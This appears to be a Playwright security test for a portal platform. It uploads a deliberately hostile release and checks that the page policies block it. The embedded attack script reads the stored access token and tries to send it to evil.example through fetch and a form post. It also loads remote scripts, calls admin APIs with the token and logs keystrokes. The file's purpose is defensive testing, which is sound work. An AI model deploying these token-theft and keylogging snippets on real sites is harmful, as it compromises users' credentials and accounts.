/** A release of the visitors' portal that attacks: what the policies of pages refuse it, with an administrator's token in hand. */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { ReleaseManifest } from '@internship-portals/shared-api/contract';
import type { Page } from '@playwright/test';
import { create } from 'tar';
import { expect, signInAsAdministrator, test } from './journey';
import { asAdministrator, tokenOf } from './people';
import { administrator, ageProofs, type Product } from './product';

const PORTAL = 'public-portal';
const VERSION = '9.0.0';

/** Runs in the page. Each attack answers what it got. */
const attacks = `
const token = () => localStorage.getItem('ACCESS_TOKEN') ?? 'none';
const authorization = () => ({ authorization: 'Bearer ' + token() });
const answerOf = (address, options) => fetch(address, options).then(({ status }) => 'answered ' + status, () => 'refused');
const scriptOf = (src) => new Promise((resolve) => {
  const script = Object.assign(document.createElement('script'), { src });
  script.onload = () => resolve('ran');
  script.onerror = () => resolve('refused');
  document.head.append(script);
});
window.attacks = {
  token,
  call: (path) => answerOf(path, { headers: authorization() }),
  publish: () => answerOf('/api/Release/admin-portal/1.0.0/Promote', { method: 'POST', headers: authorization() }),
  send: () => answerOf('https://evil.example/?' + token()),
  beacon: () => { navigator.sendBeacon('/api/Admin/User/Administrators', token()); return 'asked'; },
  script: scriptOf,
  worker: () => new Promise((resolve) => {
    const worker = new Worker('/portals/${PORTAL}/${VERSION}/worker.js');
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve('refused');
    worker.postMessage(token());
  }),
  // Later: what a test calls itself may evaluate.
  evaluate: () => new Promise((resolve) => setTimeout(() => { try { resolve((0, eval)('"ran"')); } catch { resolve('refused'); } })),
  post: () => new Promise((resolve) => {
    addEventListener('securitypolicyviolation', ({ violatedDirective }) => resolve('refused: ' + violatedDirective), { once: true });
    const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://evil.example/' });
    document.body.append(form);
    form.submit();
  }),
  frame: (src) => new Promise((resolve) => {
    const frame = Object.assign(document.createElement('iframe'), { src });
    frame.onload = () => resolve(frame.contentDocument === null ? 'refused' : 'read');
    document.body.append(frame);
  }),
  open: (address) => { window.opened = window.open(address); return 'asked'; },
  reach: () => { try { return window.opened.closed ? 'refused' : 'read ' + window.opened.document.title; } catch { return 'refused'; } },
};
addEventListener('keydown', ({ key }) => { window.keys = (window.keys ?? '') + key; }, true);
`;

const files: Record<string, string> = {
  'remoteEntry.js': `${attacks}
var hostile = { init() {}, get: async () => () => ({
  portal: { contract: 2, title: 'Hostile', navigation: [], routes: [{ index: true, Component: () => 'Hostile portal' }] },
}) };`,
  'worker.js': `onmessage = ({ data }) => fetch('/api/Admin/User/Administrators', { headers: { authorization: 'Bearer ' + data } })
  .then(({ status }) => postMessage('answered ' + status), () => postMessage('refused'));`,
  'views/index.html': `<h1>Hostile view</h1><script src="/portals/${PORTAL}/${VERSION}/view.js"></script>`,
  'view.js': 'window.ranFromView = true;',
  'mf-manifest.json': '{}',
};

async function release(product: Product): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), 'hostile-release-'));
  const described = Object.entries(files).map(([name, text]) => {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
    const integrity = `sha256-${createHash('sha256').update(text).digest('base64')}`;
    return [name, { size: Buffer.byteLength(text), integrity }];
  });
  const manifest: ReleaseManifest = {
    portal: PORTAL,
    version: VERSION,
    container: 'hostile',
    entry: 'remoteEntry.js',
    manifest: 'mf-manifest.json',
    contract: 2,
    preload: [],
    consumesFirst: [],
    consumes: [],
    requires: {},
    calls: [],
    views: { '/': 'views/index.html' },
    files: Object.fromEntries(described),
  };
  writeFileSync(join(folder, 'release.json'), JSON.stringify(manifest));
  const file = join(folder, 'release.tgz');
  await create({ gzip: true, cwd: folder, file }, [...Object.keys(files), 'release.json']);
  const archive = readFileSync(file);
  rmSync(folder, { recursive: true });
  const { token } = await tokenOf(product, administrator);
  const stored = await fetch(`${product.url}/api/Release/${PORTAL}/${VERSION}`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/gzip' },
    body: new Uint8Array(archive),
  });
  expect(stored.status, await stored.text()).toBe(201);
  await asAdministrator(product, 'POST', `/Release/${PORTAL}/${VERSION}/Rollout`, { Share: 100, Users: [] });
}

type Attacks = Record<string, (argument?: string) => unknown>;
const attack = (page: Page, name: string, argument?: string) =>
  page.evaluate(
    ([what, value]) => (window as unknown as { attacks: Attacks }).attacks[what ?? '']?.(value),
    [name, argument],
  );

test('a hostile release reaches nothing of other roles and of the login, and its view runs no script', async ({
  page,
  startProduct,
  watch,
}) => {
  watch.expectConsole(/Content Security Policy|Failed to load resource|ERR_BLOCKED_BY_(CSP|RESPONSE)/);
  watch.expectHost('evil.example');
  const seen: string[] = [];
  page.on('console', (message) => seen.push(message.text()));
  const product = await startProduct();
  await release(product);
  await signInAsAdministrator(page, product);
  await expect(page.getByText('Total Users')).toBeVisible();
  const adminEntry = await page.evaluate(
    () => JSON.parse(document.getElementById('portal-registry')?.textContent ?? '{}').portals.at(-1).current.entry,
  );
  await page.goto(product.url);
  await expect(page.getByText('Hostile portal')).toBeVisible();
  expect(await attack(page, 'token')).not.toBe('none');
  expect(await page.evaluate(() => 'ranFromView' in window)).toBe(false);
  expect(await attack(page, 'call', '/api/Position')).toBe('answered 200');

  const refused: [string, string?][] = [
    ['call', '/api/Admin/User/Administrators'],
    ['call', '/api/Release'],
    ['call', '/api/User/1'],
    ['publish'],
    ['send'],
    ['worker'],
    ['evaluate'],
    ['script', adminEntry],
    ['script', 'https://evil.example/more.js'],
    ['frame', '/login'],
    ['frame', '/login/proof'],
    ['frame', '/login/account'],
    ['frame', '/adminDashboard'],
  ];
  for (const [name, argument] of refused) {
    const before = seen.length;
    expect([name, argument, await attack(page, name, argument)]).toEqual([name, argument, 'refused']);
    // The console of a worker is not the page's, and an error that is caught is not logged.
    if (!['worker', 'evaluate'].includes(name)) {
      const isLogged = () => seen.slice(before).some((text) => text.includes('Content Security Policy'));
      await expect.poll(isLogged, `${name} ${argument} in the console`).toBe(true);
    }
  }
  await attack(page, 'beacon');
  await expect.poll(() => seen.some((text) => /Admin\/User\/Administrators.*connect-src/.test(text))).toBe(true);

  // A proof that is recent enough is not asked for: the page would close at once.
  ageProofs(product);
  for (const address of [
    '/login',
    '/LOGIN/',
    '/login/proof',
    '/login/account',
    '/adminDashboard',
    '/api/docs',
    '/%E0%A4%A',
  ]) {
    const popup = page.waitForEvent('popup');
    await attack(page, 'open', address);
    const opened = await popup;
    await opened.waitForLoadState('domcontentloaded');
    await expect.poll(() => attack(page, 'reach'), `reaching into ${address}`).toBe('refused');
    // The page may be on its way to another one, such as the login.
    const isAlone = () => opened.evaluate(() => window.opener === null).catch(() => null);
    await expect.poll(isAlone, address).toBe(true);
    if (address === '/login/proof') {
      await opened.getByLabel('Password', { exact: true }).pressSequentially('half a pass');
      expect(await opened.evaluate(() => ['keys', 'attacks', 'hostile'].filter((name) => name in window))).toEqual([]);
      expect(await page.evaluate(() => 'keys' in window)).toBe(false);
    }
    await opened.close();
  }

  // The login is a document without any portal, even when the pointer touches a link to one.
  await page.evaluate(() => localStorage.clear());
  const requested: string[] = [];
  page.on('request', (request) => requested.push(new URL(request.url()).pathname));
  await page.evaluate(() => {
    const link = Object.assign(document.createElement('a'), { href: '/LOGIN/', textContent: 'To the login' });
    document.body.append(link);
  });
  await page.getByRole('link', { name: 'To the login' }).click();
  await expect(page).toHaveURL(`${product.url}/login`);
  await page.getByLabel('Email').fill(administrator.email);
  await page.getByRole('link', { name: 'Home' }).first().hover();
  await page.getByLabel('Password', { exact: true }).pressSequentially('half a pass');
  expect(await page.evaluate(() => ['keys', 'attacks', 'hostile'].filter((name) => name in window))).toEqual([]);
  expect(requested.filter((path) => path.startsWith(`/portals/${PORTAL}/`))).toEqual([]);

  await page.goto(product.url);
  await expect(page.getByText('Hostile portal')).toBeVisible();
  expect(await attack(page, 'post')).toBe('refused: form-action');
});
